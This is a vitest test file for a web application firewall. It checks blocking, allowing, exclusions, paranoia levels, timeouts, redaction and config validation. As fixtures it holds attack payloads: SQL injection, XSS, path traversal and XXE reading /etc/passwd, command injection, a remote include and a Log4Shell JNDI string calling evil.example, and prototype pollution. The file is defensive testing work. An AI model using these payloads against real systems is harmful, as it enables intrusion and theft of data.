import { describe, expect, it } from 'vitest'
import { makeContext } from '../../testing/make-context.js'
import type { Allow, Deny, Verdict } from '../define.js'
import { compileWaf } from './corpus/evaluate.js'
import { exclusionYaml, redactExcerpt } from './index.js'
import { rules } from './rules.js'
import { WafConfig } from './schema.js'

type Match = { rule: string; family: string; paranoia: number; severity: string; field: string; excerpt: string; exclusion: string; score: number }

function get(url: string, headers: Record<string, string> = {}) {
  return makeContext({ method: 'GET', url, headers })
}
function post(type: string, body: string | Buffer, url = '/api/submit') {
  return makeContext({ method: 'POST', url, headers: { 'content-type': type }, body })
}
function denied(verdict: Verdict): Deny['denial'] {
  expect(verdict.kind).toBe('deny')
  return (verdict as Deny).denial
}
function matchesOf(detail: unknown): Match[] {
  return (detail as { matches: Match[] }).matches
}

describe('waf policy', () => {
  const waf = compileWaf(1)

  it('blocks attacks written in plain prose characters, which the quiet handle inspects', () => {
    // Plain and opening no gate: only the ungated signatures (libinjection SQL, quote-comment) read these.
    for (const [value, ruleId] of [["admin'--", 'sqli-007'], ["x' or 'a' like 'a", 'sqli-006']] as const) {
      const denial = denied(waf(post('application/json', JSON.stringify({ user: value }))) as Verdict)
      expect(denial.rule).toBe(rules.sqli.id)
      expect(matchesOf(denial.detail).map((m) => m.rule)).toContain(ruleId)
      expect(matchesOf(denial.detail)[0].field).toBe('json.user')
    }
    // Ordinary prose on the same path is let through.
    expect((waf(post('application/json', JSON.stringify({ comment: "I'll update my order and select a new size if needed. Thanks!" }))) as Verdict).kind).toBe('allow')
  })

  it.each([
    [rules.sqli.id, get(`/api/items?id=${encodeURIComponent("1' OR '1'='1")}`), 'query.id'],
    [rules.xss.id, post('application/json', JSON.stringify({ comment: '<img src=x onerror=alert(1)>' })), 'json.comment'],
    [rules.lfi.id, get('/api/download?file=../../../../etc/passwd'), 'query.file'],
    [rules.rfi.id, get('/index.php?page=http://evil.example/shell.txt?'), 'query.page'],
    [rules.rce.id, post('application/x-www-form-urlencoded', `host=${encodeURIComponent('127.0.0.1; cat /etc/passwd')}`), 'form.host'],
    [rules.codeInjection.id, get('/api/status', { 'user-agent': '${jndi:ldap://evil.example/a}' }), 'header.user-agent'],
    [rules.protocol.id, get('/api/files?name=report.pdf%00.jpg'), 'query.name'],
    [rules.scanner.id, get('/api/status', { 'user-agent': 'sqlmap/1.7.2#stable (https://sqlmap.org)' }), 'header.user-agent'],
  ])('denies with %s (403) and names the field', (ruleId, ctx, field) => {
    const denial = denied(waf(ctx) as Verdict)
    expect(denial.rule).toBe(ruleId)
    expect(denial.status).toBe(403)
    expect(matchesOf(denial.detail).map((m) => m.field)).toContain(field)
  })

  it('denies with waf.engine-error when inspection times out and onError is closed', () => {
    const strict = compileWaf(1, { timeoutMs: 0.1, onError: 'closed' })
    const body = JSON.stringify(Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`f${i}`, `customer's note number ${i}; `.repeat(20)])))
    const denial = denied(strict(post('application/json', body)) as Verdict)
    expect(denial.rule).toBe(rules.engineError.id)
    expect(denial.detail?.reason).toBe('timeout')
  })

  it('lets a request through with a trail note when inspection times out and onError is open', () => {
    const open = compileWaf(1, { timeoutMs: 0.1 })
    const body = JSON.stringify(Object.fromEntries(Array.from({ length: 3000 }, (_, i) => [`f${i}`, `customer's note number ${i}; `.repeat(20)])))
    const verdict = open(post('application/json', body)) as Allow
    expect(verdict.kind).toBe('allow')
    expect(String(verdict.detail?.note)).toMatch(/onError is open/)
  })

  it('keeps the matched value and the pattern out of the public message and remedy', () => {
    const payload = "' UNION SELECT password FROM users--"
    const denial = denied(waf(get(`/api/search?q=${encodeURIComponent(payload)}`)) as Verdict)
    for (const text of [denial.message, denial.publicRemedy, denial.title]) {
      expect(text).not.toContain('UNION')
      expect(text).not.toContain('sqli-0')
    }
    const match = matchesOf(denial.detail)[0]
    expect(match).toMatchObject({ family: 'sqli', paranoia: 1, severity: 'critical', field: 'query.q' })
    expect(match.excerpt.length).toBeLessThanOrEqual(60)
    expect(match.exclusion).toBe(`{ rules: [${match.rule}], fields: [query.q] }`)
    expect(denial.detail).toMatchObject({ score: expect.any(Number), threshold: 5 })
  })

  it('records but lets through in detect mode', () => {
    const detect = compileWaf(1, { mode: 'detect' })
    const verdict = detect(get('/api/download?file=../../../../etc/passwd')) as Allow
    expect(verdict).toMatchObject({ kind: 'allow', result: 'detect', rule: rules.lfi.id })
    expect(matchesOf(verdict.detail)[0].field).toBe('query.file')
  })

  it('allows ordinary and tricky legitimate requests', () => {
    for (const ctx of [
      get('/api/search?q=red+shoes&page=2'),
      get(`/api/search?q=${encodeURIComponent('javascript: the good parts')}`),
      post('application/json', JSON.stringify({ name: "O'Brien", address: '12 Select Court', note: "I'll update my order and select a new size" })),
      post('application/x-www-form-urlencoded', `comment=${encodeURIComponent('Prices: $5 & up -- math: 1<2 and 3>2')}`),
    ]) {
      expect((waf(ctx) as Verdict).kind).toBe('allow')
    }
  })

  it('skips an excluded rule on the excluded field only', () => {
    const payload = JSON.stringify({ description: "SELECT name FROM users WHERE id = '1' OR '1'='1'", title: "x' OR '1'='1" })
    const base = denied(waf(post('application/json', payload)) as Verdict)
    const fields = matchesOf(base.detail).map((m) => m.field)
    expect(fields).toEqual(expect.arrayContaining(['json.description', 'json.title']))

    const excluded = compileWaf(1, { exclusions: [{ rules: ['sqli'], fields: ['json.description'] }] })
    const stillDenied = denied(excluded(post('application/json', payload)) as Verdict)
    expect(matchesOf(stillDenied.detail).every((m) => m.field === 'json.title')).toBe(true)

    const onlyDescription = JSON.stringify({ description: "SELECT name FROM users WHERE id = '1' OR '1'='1'", title: 'hello' })
    expect((excluded(post('application/json', onlyDescription)) as Verdict).kind).toBe('allow')
  })

  it('follows the exclusion the trace suggests, by rule id and field prefix', () => {
    const ctx = () => post('application/json', JSON.stringify({ address: { line1: "1' OR '1'='1" } }))
    const first = denied(waf(ctx()) as Verdict)
    const ruleIds = matchesOf(first.detail).map((m) => m.rule)
    const byRule = compileWaf(1, { exclusions: [{ rules: ruleIds, fields: ['json.address'] }] })
    expect((byRule(ctx()) as Verdict).kind).toBe('allow')
    const otherField = compileWaf(1, { exclusions: [{ rules: ruleIds, fields: ['json.addressee'] }] })
    expect((otherField(ctx()) as Verdict).kind).toBe('deny')
    const everything = compileWaf(1, { exclusions: [{ rules: ['*'], fields: ['json'] }] })
    expect((everything(ctx()) as Verdict).kind).toBe('allow')
  })

  it('runs stricter signatures only at higher paranoia levels', () => {
    const ctx = () => get(`/api/search?q=${encodeURIComponent('alert(document.cookie)')}`)
    expect((compileWaf(1)(ctx()) as Verdict).kind).toBe('allow')
    const pl2 = denied(compileWaf(2)(ctx()) as Verdict)
    expect(pl2.rule).toBe(rules.xss.id)
    expect(matchesOf(pl2.detail).some((m) => m.paranoia === 2)).toBe(true)
  })

  it('adds warnings up and blocks only at the threshold', () => {
    // A body that does not parse as its declared type is a warning (3): below 5, at 3 it blocks.
    const ctx = () => post('application/json', '{"broken": ')
    const below = compileWaf(1)(ctx()) as Allow
    expect(below.kind).toBe('allow')
    expect(matchesOf(below.detail)[0]).toMatchObject({ rule: 'protocol-006', severity: 'warning', score: 3 })
    expect(denied(compileWaf(1, { threshold: 3 })(ctx()) as Verdict).rule).toBe(rules.protocol.id)
  })

  it('finds attacks in XML text and attributes and in multipart fields', () => {
    const xml = denied(waf(post('application/xml', '<order id="42"><note>&lt;script&gt;alert(1)&lt;/script&gt;</note></order>')) as Verdict)
    expect(matchesOf(xml.detail)[0].field).toBe('xml.order.note')
    const attr = denied(waf(post('text/xml', '<order file="../../../etc/passwd"><qty>1</qty></order>')) as Verdict)
    expect(matchesOf(attr.detail)[0].field).toBe('xml.order@file')
    const boundary = 'XyZ'
    const body = `--${boundary}\r\nContent-Disposition: form-data; name="comment"\r\n\r\n<svg onload=alert(1)>\r\n--${boundary}--\r\n`
    const multipart = denied(waf(post(`multipart/form-data; boundary=${boundary}`, body)) as Verdict)
    expect(matchesOf(multipart.detail)[0].field).toBe('multipart.comment')
  })

  it('flags an XML external entity without expanding it', () => {
    const body = '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>'
    expect(denied(waf(post('application/xml', body)) as Verdict).rule).toBe(rules.lfi.id)
  })

  it('finds prototype pollution in JSON keys', () => {
    const denial = denied(waf(post('application/json', '{"user": {"__proto__": {"isAdmin": true}}}')) as Verdict)
    expect(denial.rule).toBe(rules.codeInjection.id)
    expect(matchesOf(denial.detail)[0].field).toBe('json.user.__proto__')
  })

  it('withholds excerpts of cookies and credentials', () => {
    const denial = denied(waf(get('/api/account', { cookie: `pref=${encodeURIComponent('<script>alert(1)</script>')}` })) as Verdict)
    const match = matchesOf(denial.detail)[0]
    expect(match.field).toBe('cookie.pref')
    expect(match.excerpt).not.toContain('script')
  })

  it('inspects a 1 MB body within a few milliseconds', () => {
    const body = JSON.stringify({ items: Array.from({ length: 9000 }, (_, i) => ({ sku: `SKU-${i}`, note: 'plain words '.repeat(8) })) })
    expect(body.length).toBeGreaterThan(1_000_000)
    const started = performance.now()
    const verdict = compileWaf(1, { timeoutMs: 5 })(post('application/json', body)) as Verdict
    expect(performance.now() - started).toBeLessThan(400)
    expect(verdict.kind).toBe('allow')
  })
})

describe('waf helpers', () => {
  it('quotes field paths YAML would misread', () => {
    expect(exclusionYaml('sqli-001', 'json.address.line1')).toBe('{ rules: [sqli-001], fields: [json.address.line1] }')
    expect(exclusionYaml('xss-001', 'json.items[0].name')).toBe('{ rules: [xss-001], fields: ["json.items[0].name"] }')
  })

  it('redacts excerpts to 60 characters and masks long digit runs', () => {
    expect(redactExcerpt('query.q', 'x'.repeat(100)).length).toBe(60)
    expect(redactExcerpt('query.q', 'card 4111111111111111 here')).toBe('card ################ here')
    expect(redactExcerpt('header.authorization', 'Bearer abc')).not.toContain('abc')
  })
})

describe('waf config', () => {
  it('fills in the documented defaults', () => {
    expect(WafConfig.parse({})).toEqual({ mode: 'block', paranoia: 1, threshold: 5, inspectBody: true, exclusions: [], timeoutMs: 10, onError: 'open' })
  })

  it.each([
    [{ mode: 'log' }, 'mode', 'Invalid option'],
    [{ paranoia: 5 }, 'paranoia', 'Too big'],
    [{ paranoia: 0 }, 'paranoia', 'Too small'],
    [{ threshold: 0 }, 'threshold', 'Too small'],
    [{ onError: 'maybe' }, 'onError', 'Invalid option'],
    [{ exclusions: [{ rules: ['sqli-001'] }] }, 'exclusions.0.fields', 'Invalid input'],
    [{ exclusions: [{ rules: ['SQLI!'], fields: ['json.a'] }] }, 'exclusions.0.rules.0', "must be a rule id like 'sqli-001'"],
    [{ exclusions: [{ rules: ['xss'], fields: ['nowhere.a'] }] }, 'exclusions.0.fields.0', 'must start with path, query'],
    [{ blockMode: true }, '', 'Unrecognized key'],
  ])('rejects %j at %s', (config, path, message) => {
    const result = WafConfig.safeParse(config)
    expect(result.success).toBe(false)
    const issue = result.error!.issues[0]
    expect(issue.path.join('.')).toBe(path)
    expect(issue.message).toContain(message)
  })
})

describe('waf exclusion advice', () => {
  it('offers one exclusion that lets the whole request through', () => {
    const waf = compileWaf(1)
    const ctx = () => makeContext({ method: 'POST', url: '/x', headers: { 'content-type': 'application/json' }, body: JSON.stringify({ a: "1' OR '1'='1", b: '<script>alert(1)</script>' }) })
    const verdict = waf(ctx()) as Deny
    const exclusion = String(verdict.denial.detail?.exclusion)
    expect(exclusion).toMatch(/^\{ rules: \[.*sqli-.*xss-.*\], fields: \[json\.a, json\.b\] \}$/)
    const ids = exclusion.slice(exclusion.indexOf('[') + 1, exclusion.indexOf(']')).split(', ')
    expect((compileWaf(1, { exclusions: [{ rules: ids, fields: ['json.a', 'json.b'] }] })(ctx()) as Verdict).kind).toBe('allow')
    expect(verdict.denial.remediation).toContain(exclusion)
  })
})

describe('waf clean-header cache', () => {
  it('skips a header value it already found clean but still inspects everything else', () => {
    const waf = compileWaf(1)
    const ua = { 'user-agent': 'Mozilla/5.0 (X11; Linux x86_64) Firefox/121.0', referer: 'https://shop.example.com/cart' }
    expect((waf(makeContext({ url: '/api/items?q=shoes', headers: ua })) as Verdict).kind).toBe('allow')
    expect((waf(makeContext({ url: '/api/items?q=shoes', headers: ua })) as Verdict).kind).toBe('allow')
    const attack = denied(waf(makeContext({ url: `/api/items?q=${encodeURIComponent('<script>alert(1)</script>')}`, headers: ua })) as Verdict)
    expect(attack.rule).toBe(rules.xss.id)
    const attackInHeader = denied(waf(makeContext({ url: '/api/items', headers: { ...ua, referer: '${jndi:ldap://evil.example/a}' } })) as Verdict)
    expect(attackInHeader.rule).toBe(rules.codeInjection.id)
  })
})
